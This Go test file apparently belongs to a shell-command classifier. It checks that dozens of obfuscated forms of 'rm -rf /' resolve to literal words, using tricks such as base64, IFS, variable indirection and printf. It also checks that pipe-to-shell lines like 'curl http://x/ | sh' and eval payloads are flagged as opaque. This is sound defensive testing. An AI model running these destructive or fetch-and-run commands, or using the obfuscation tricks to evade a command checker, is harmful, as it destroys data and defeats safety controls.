package classify

import (
	"slices"
	"strings"
	"testing"
)

func TestWordsAreResolved(t *testing.T) {
	for _, c := range []struct{ name, line, want string }{
		{"quotes", `r''m "-r"f '/' `, "rm|-rf|/"},
		{"a backslash", `\r\m -rf \/`, "rm|-rf|/"},
		{"ANSI-C quotes", `$'\x72\155' $'-r\u0066' $'/\n' $'a\0b'`, "rm|-rf|/\n|a"},
		{"braces", "{rm,-rf,/}", "rm|-rf|/"},
		{"a sequence", "rm a{1..3}", "rm|a1|a2|a3"},
		{"tilde", `rm ~ ~/a ~+ ~dev "~" a~`, "rm|/home/dev|/home/dev/a|/home/dev/app|/home/dev|~|a~"},
		{"a variable", "X=rm; Y=-rf; $X $Y /", "rm|-rf|/"},
		{"a variable that splits", "X='rm -rf /'; $X", "rm|-rf|/"},
		{"a quoted variable does not split", "X='a b'; rm \"$X\"", "rm|a b"},
		{"IFS", "IFS=_; X=rm_-rf_/; $X", "rm|-rf|/"},
		{"the default IFS", "rm${IFS}-rf${IFS}/", "rm|-rf|/"},
		{"appending", "X=r; X+=m; $X x", "rm|x"},
		{"a known variable", "rm $HOME/a", "rm|/home/dev/a"},
		{"indirection", "A=rm; B=A; ${!B} x", "rm|x"},
		{"a default", "X=; ${X:-rm} x", "rm|x"},
		{"an alternative", "X=1; ${X:+rm} x", "rm|x"},
		{"prefix and suffix", "X=a/rm.sh; Y=${X##*/}; ${Y%.sh} x", "rm|x"},
		{"replacing", "X=rxm; ${X/x/} x", "rm|x"},
		{"replacing all", "X=xrxm; ${X//x/} x", "rm|x"},
		{"a substring", "X=charm; ${X:3} ${X:0:1}", "rm|c"},
		{"case", "X=RM; ${X,,} x", "rm|x"},
		{"length", "X=abc; rm ${#X}", "rm|3"},
		{"an array", `A=(rm -rf /); "${A[@]}"`, "rm|-rf|/"},
		{"an array's element", "A=(a rm); ${A[1]} ${A[0]}", "rm|a"},
		{"arguments", `set -- rm -rf /; "$@"`, "rm|-rf|/"},
		{"an argument", "set -- a rm; $2 $1 $#", "rm|a|2"},
		{"shift", "set -- a rm b; shift; $1 $2", "rm|b"},
		{"arithmetic", "X=4; rm $((1+2*3)) $((X-5))", "rm|7|-1"},
		{"echo", "$(echo rm) -rf `echo /`", "rm|-rf|/"},
		{"printf", `$(printf '%s%s' r m) $(printf '\57')`, "rm|/"},
		{"pwd", `rm "$(pwd)/a"`, "rm|/home/dev/app/a"},
		{"base64", "$(echo cm0gLXJmIC8= | base64 -d)", "rm|-rf|/"},
		{"rev", "$(echo mr | rev) x", "rm|x"},
		{"tr", "$(echo sn | tr a-z zabcdefghijklmnopqrstuvwxy) x", "rm|x"},
		{"xxd", "$(echo 726d | xxd -r -p) x", "rm|x"},
		{"printf -v", "printf -v X %s rm; $X x", "rm|x"},
		{"a file that the line wrote", "echo rm > f; $(cat f) x", "rm|x"},
		{"seq", "for i in $(seq 2); do rm $i; done", "rm|2"},
		{"echo -e", `$(echo -en 'r\x6d\c') x`, "rm|x"},
		{"printf's formats", `$(printf '%%%c%d%x%b' rm 7 255 '\t') x`, "%r7ff|x"},
		{"an unset variable", "X=a; unset X; $X rm x", "rm|x"},
		{"a declared variable", "declare X=rm; $X x", "rm|x"},
		{"export by words", "builtin export X=rm; $X x", "rm|x"},
		{"a function's arguments", "f() { $1 $2; }; f rm x", "rm|x"},
		{"tilde in an assignment", "X=~/a; rm $X", "rm|/home/dev/a"},
		{"mktemp", `rm $(mktemp) $(mktemp -p /srv) $(mktemp -d a.XXX) $(mktemp -t b.XXX)`, "rm|/tmp/tmp.0000000001|/srv/tmp.0000000002|/home/dev/app/a.XXX|/tmp/b.XXX"},
		{"basename", "$(basename /bin/rm) x", "rm|x"},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := facts(t, at("line", c.line))
			s := f.Stages[len(f.Stages)-1]
			got := strings.Join(append([]string{s.Name}, s.Args...), "|")
			if got != c.want {
				t.Errorf("%s\n got %q\nwant %q", c.line, got, c.want)
			}
			if len(s.Opaque) > 0 {
				t.Errorf("%s: opaque %v", c.line, s.Opaque)
			}
		})
	}
}

func TestWhatIsNotLiteralIsOpaque(t *testing.T) {
	for _, c := range []struct{ name, line, where string }{
		{"a variable as program", "$X -rf /", "program"},
		{"a variable's end", "r$X -rf /", "program"},
		{"a substitution as program", "$(a) -rf /", "program"},
		{"a part of a guess", "${SHELL:0:0}rm -rf /", "program"},
		{"a pattern as program", "/bin/r? -rf /", "program"},
		{"a variable", "rm $X", "argument"},
		{"a part of a word", "rm /tmp/$X", "argument"},
		{"a file in an unknown folder", "cd $X; echo a > b", "cwd"},
		{"a file in one of two folders", "test -d a && cd a; rm b", "cwd"},
		{"a default that something outside may set", "rm ${X:-/tmp/a}", "argument"},
		{"a variable that was read", "read X; rm $X", "argument"},
		{"a variable with two values", "if a; then X=1; else X=2; fi; rm $X", "argument"},
		{"a variable that a loop changes", "X=a; while b; do rm $X; X=/; done", "argument"},
		{"a loop over input", "for i in $(ls); do rm $i; done", "argument"},
		{"a redirection", "echo a > $X", "redirect"},
		{"an eval", "eval $X", "payload"},
		{"a payload", "bash -c $X", "payload"},
		{"a pipe into a shell", "curl http://x/ | sh", "stdin"},
		{"a file into a shell", "sh < f", "stdin"},
		{"a process into a shell", "bash <(curl http://x/)", "stdin"},
		{"a here-document with a variable", "sh <<E\nrm $X\nE", "payload"},
		{"output that depends on a condition", "$(a && echo rm || echo ls) x", "program"},
		{"output of a loop that may not run", "$(while a; do echo rm; done) x", "program"},
		{"a division by zero", "rm $((7/0))", "argument"},
		{"random", "rm a$RANDOM", "argument"},
		{"a changed array", "A=(a); A[1]=b; rm ${A[1]}", "argument"},
		{"a counter", "X=1; ((X++)); rm $X", "argument"},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := facts(t, at("line", c.line))
			if !slices.ContainsFunc(f.Opaque, func(o Opaque) bool { return o.Where == c.where && o.Reason != "" }) {
				t.Errorf("%s: want %s in %+v", c.line, c.where, f.Opaque)
			}
		})
	}
}

func TestAWordThatMayVanishHidesNothing(t *testing.T) {
	checkBrief(t, []briefCase{
		{"before the program", "$X rm -rf /", "? rm -rf /; rm -rf /"},
		{"several", "$X $Y rm -rf /", "? $Y rm -rf /; rm -rf /"},
		{"in a wrapper", "sudo $X rm -rf /", "sudo ^? rm -rf /; sudo ^rm -rf /"},
	})
}

func TestANumberThatIsNotKnownHidesNoOtherDoubt(t *testing.T) {
	for line, want := range map[string]bool{
		`bash -c "kill $!"`:            true,
		`bash -c "kill $$ $RANDOM"`:    true,
		`bash -c "kill $! $X"`:         false,
		`bash -c "kill $!; echo ${X}"`: false,
		`A=$!; A+=$X; eval "$A"`:       false,
		`eval kill $! $X`:              false,
	} {
		f := facts(t, at("line", line))
		for _, s := range f.Stages {
			if s.Payload != nil && s.Payload.Read != want {
				t.Errorf("%s: read %v, want %v; opaque %v", line, s.Payload.Read, want, s.Opaque)
			}
		}
	}
}
